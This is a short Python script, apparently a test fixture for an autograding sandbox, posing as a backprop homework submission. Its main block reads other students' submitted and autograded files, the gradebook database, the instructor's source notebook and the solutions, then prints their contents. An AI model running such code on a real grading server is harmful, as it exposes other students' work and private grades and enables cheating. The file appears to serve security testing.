"""Reads the grading server's course directory: other students' submitted/ and autograded/
folders, the gradebook and the instructor's source notebook (the test makes them world-readable,
as nbgrader leaves them with a umask of 022)."""
import glob

seen = []
for pattern in ["__COURSE_DIR__/submitted/*/backprop/*", "__COURSE_DIR__/autograded/*/backprop/*",
                "__COURSE_DIR__/gradebook.db", "__COURSE_DIR__/source/backprop/*",
                "__PROJECT_ROOT__/assignments/backprop/*.ipynb", "__PROJECT_ROOT__/solutions/*.py"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as f:
                seen.append(path + ": " + f.read(2000).decode(errors="replace"))
        except OSError:
            pass
print("SEEN:", "\n".join(seen)[:20000])


def relu(z):
    return np.maximum(0.0, z)
